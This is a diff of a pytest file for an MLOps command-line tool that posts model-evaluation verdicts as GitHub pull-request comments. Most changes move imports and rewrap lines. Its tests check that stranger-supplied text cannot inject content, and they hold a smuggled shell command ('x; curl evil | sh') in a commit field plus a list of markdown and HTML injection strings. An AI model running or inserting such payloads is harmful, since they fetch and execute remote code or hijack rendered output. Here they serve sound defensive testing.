@@ -12,10 +12,13 @@ from typing import Any
 import pytest
 from typer.testing import CliRunner
 
-from mlops.cli import app
-from mlops.github.events import MARKER, MOST_BYTES
-from mlops.project import Project
-from mlops.results import Evaluation, Expectation, Metric, Record, Validation, Verdict
+from mlops.cli.main import app
+from mlops.config.project import Project
+from mlops.github.comment import MARKER, MOST_BYTES
+from mlops.results.data import Expectation, Validation
+from mlops.results.evaluation import Evaluation, Metric
+from mlops.results.runs import Record
+from mlops.results.verdict import Verdict
 
 from .conftest import git
 from .github_world import GitHub, github_fixture  # noqa: F401
@@ -34,7 +37,9 @@ RUN: dict[str, Any] = {
 }
 
 
-def pull(number: int, sha: str = HEAD, head: str = "stranger:better", state: str = "open") -> Any:
+def pull(
+    number: int, sha: str = HEAD, head: str = "stranger:better", state: str = "open"
+) -> Any:
     return {"number": number, "state": state, "head": {"sha": sha, "label": head}}
 
 
@@ -43,7 +48,9 @@ def results(folder: Path, project: Project, message: str = "0 of 600 rows") -> P
     build = folder / "build" / "churn"
     build.mkdir(parents=True)
     (build / "spec.json").write_text(project.model("churn").model_dump_json())
-    expectation = Expectation(name="not null", column="tenure", ok=False, message=message)
+    expectation = Expectation(
+        name="not null", column="tenure", ok=False, message=message
+    )
     Validation(ok=True, expectations=(expectation,)).save(build)
     metric = Metric(name="roc_auc", value=0.9, low=0.8, high=0.95)
     Evaluation(ok=True, rows=100, metrics=(metric,)).save(build)
@@ -102,10 +109,14 @@ def test_the_verdict_is_shown_and_the_run_is_journaled(world: World) -> None:
     (body,) = world.bodies
     assert body.startswith(MARKER) and "churn" in body and "0.900" in body
     assert RUN["html_url"] in body
-    files = git(world.project.root, "ls-tree", "-r", "--name-only", "journal").split("\n")
+    files = git(world.project.root, "ls-tree", "-r", "--name-only", "journal").split(
+        "\n"
+    )
     (path,) = [f for f in files if f.startswith("runs/churn/2026/11/")]
     record = json.loads(git(world.project.root, "show", f"journal:{path}"))
-    said = {k: record[k] for k in ("model", "actor", "pull_request", "commit", "run_url")}
+    said = {
+        k: record[k] for k in ("model", "actor", "pull_request", "commit", "run_url")
+    }
     assert said == {
         "model": "churn",
         "actor": "@stranger",
@@ -141,7 +152,9 @@ def test_a_person_who_writes_the_marker_is_not_us(world: World) -> None:
 def test_it_lands_on_the_pull_request_of_the_commit(world: World) -> None:
     results(world.folder, world.project)
     record = world.folder / "build" / "churn" / "record.json"
-    assert json.loads(record.read_text())["pull_request"] == 1  # what the artifact claims
+    assert (
+        json.loads(record.read_text())["pull_request"] == 1
+    )  # what the artifact claims
     world.github.pulls = [
         pull(1, head="victim:better"),
         pull(3, sha="c" * 40),
@@ -153,17 +166,23 @@ def test_it_lands_on_the_pull_request_of_the_commit(world: World) -> None:
 
 
 @pytest.mark.parametrize("run", [{"head_sha": "d" * 40}, {"head_repository": None}])
-def test_a_head_that_has_moved_on_gets_no_comment(world: World, run: dict[str, Any]) -> None:
+def test_a_head_that_has_moved_on_gets_no_comment(
+    world: World, run: dict[str, Any]
+) -> None:
     results(world.folder, world.project)
     assert world.comment(**run) == {"comment": None}
     assert not world.bodies
 
 
-@pytest.mark.parametrize("conclusion", ["failure", "timed_out", "startup_failure", "stale"])
+@pytest.mark.parametrize(
+    "conclusion", ["failure", "timed_out", "startup_failure", "stale"]
+)
 def test_a_red_run_is_red_before_all_else_whatever_its_artifacts_say(
     world: World, conclusion: str
 ) -> None:
-    results(world.folder, world.project)  # the gate would promote; the code may not even parse
+    results(
+        world.folder, world.project
+    )  # the gate would promote; the code may not even parse
     world.comment(conclusion=conclusion)
     (body,) = world.bodies
     first, second = re.findall(r"^## .*$", body, re.MULTILINE)
@@ -184,7 +203,15 @@ def test_text_of_a_stranger_only_shows(world: World) -> None:
     results(world.folder, world.project, HOSTILE)
     world.comment(conclusion="failure")
     body = world.bodies[0].removeprefix(MARKER)
-    for syntax in ("<img", "@everyone", "![", "](java", "<!--", "https://evil", "\n# heading"):
+    for syntax in (
+        "<img",
+        "@everyone",
+        "![",
+        "](java",
+        "<!--",
+        "https://evil",
+        "\n# heading",
+    ):
         assert syntax not in body
     assert "evil" in body and body.count("</details>") == body.count("<details>")
 
@@ -192,7 +219,9 @@ def test_text_of_a_stranger_only_shows(world: World) -> None:
 def test_a_commit_or_name_of_a_stranger_is_no_command(world: World) -> None:
     build = results(world.folder, world.project)
     record = json.loads((build / "record.json").read_text())
-    (build / "record.json").write_text(json.dumps({**record, "commit": "x; curl evil | sh"}))
+    (build / "record.json").write_text(
+        json.dumps({**record, "commit": "x; curl evil | sh"})
+    )
     world.comment()
     assert "curl" not in world.bodies[0] and f"git checkout {HEAD}" in world.bodies[0]
 
@@ -214,7 +243,9 @@ def no_text(build: Path) -> None:
 
 
 def a_huge_number(build: Path) -> None:
-    (build / "verdict.json").write_text('{"decision": "promote", "rows": ' + "9" * 10_000 + "}")
+    (build / "verdict.json").write_text(
+        '{"decision": "promote", "rows": ' + "9" * 10_000 + "}"
+    )
 
 
 def a_link(build: Path) -> None:
@@ -319,7 +350,9 @@ def test_docs_alone_say_nothing(world: World) -> None:
     assert not world.bodies
 
 
-def test_a_comment_that_is_there_follows_when_nothing_is_trained_any_more(world: World) -> None:
+def test_a_comment_that_is_there_follows_when_nothing_is_trained_any_more(
+    world: World,
+) -> None:
     build = results(world.folder, world.project)
     world.comment()
     for path in build.iterdir():
@@ -332,7 +365,9 @@ def test_a_comment_that_is_there_follows_when_nothing_is_trained_any_more(world:
 def test_a_run_that_failed_before_there_was_a_report(world: World) -> None:
     world.folder.mkdir()
     world.comment(conclusion="failure")
-    assert "There is no report" in world.bodies[0] and RUN["html_url"] in world.bodies[0]
+    assert (
+        "There is no report" in world.bodies[0] and RUN["html_url"] in world.bodies[0]
+    )
 
 
 def test_on_a_laptop_the_number_is_given(world: World) -> None:
